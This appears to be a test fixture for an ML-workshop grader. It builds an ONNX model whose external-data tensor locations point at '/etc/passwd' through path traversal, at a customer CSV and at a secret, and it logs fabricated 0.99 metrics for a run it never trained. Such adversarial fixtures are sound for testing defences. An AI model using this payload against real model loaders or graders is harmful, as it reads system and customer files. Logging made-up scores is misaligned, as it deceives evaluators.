/** Logs an ONNX file whose weights are "in" a file of the grader's. */
import type { Workshop } from '../../../src/workshop/index.ts';

const text = (value: string) => Buffer.from(value);
const varint = (n: number): Buffer =>
  n < 128 ? Buffer.of(n) : Buffer.concat([Buffer.of((n & 127) | 128), varint(n >> 7)]);
const bytes = (id: number, content: Buffer) =>
  Buffer.concat([varint(id * 8 + 2), varint(content.length), content]);
const number = (id: number, n: number) => Buffer.concat([varint(id * 8), varint(n)]);
const entry = (key: string, value: string) =>
  bytes(13, Buffer.concat([bytes(1, text(key)), bytes(2, text(value))]));

/** TensorProto with data_location EXTERNAL. https://onnx.ai/onnx/repo-docs/ExternalData.html */
const outside = (name: string, location: string) =>
  Buffer.concat([
    number(1, 16),
    number(2, 1),
    bytes(8, text(name)),
    entry('location', location),
    entry('length', '64'),
    number(14, 1),
  ]);

export default async function ({ mlflow, data }: Workshop) {
  await mlflow.setExperiment('workshop-churn-learning');
  const model = graph(data.featureCols);
  await mlflow.startRun({ runName: 'exercice-gradient-boosting' }, async () => {
    await mlflow.logParams({ n_estimators: 100, learning_rate: 0.1, max_depth: 5 });
    await mlflow.logMetrics({ accuracy: 0.99, precision: 0.99, recall: 0.99, f1: 0.99 });
    await mlflow.logModel({
      name: 'model',
      files: { 'model.onnx': model },
      flavors: { onnx: { data: 'model.onnx' } },
    });
  });
}

function graph(columns: readonly string[]): Buffer {
  const shape = bytes(2, bytes(1, bytes(2, text('N'))));
  const value = (name: string, type: number) =>
    Buffer.concat([
      bytes(1, text(name)),
      bytes(2, bytes(1, Buffer.concat([number(1, type), shape]))),
    ]);
  const files = [
    '@secret@',
    '../../../../../../etc/passwd',
    '/data/customer_data.csv',
    'model.onnx',
  ];
  const node = (type: string, input: string, output: string) =>
    bytes(1, Buffer.concat([bytes(1, text(input)), bytes(2, text(output)), bytes(4, text(type))]));
  const content = Buffer.concat([
    node('Identity', 'w0', 'probability'),
    bytes(2, text('g')),
    ...files.map((file, i) => bytes(5, outside(`w${i}`, file))),
    ...columns.map((name) => bytes(11, value(name, 11))),
    bytes(12, value('probability', 1)),
  ]);
  return Buffer.concat([number(1, 8), bytes(7, content), bytes(8, number(2, 17))]);
}
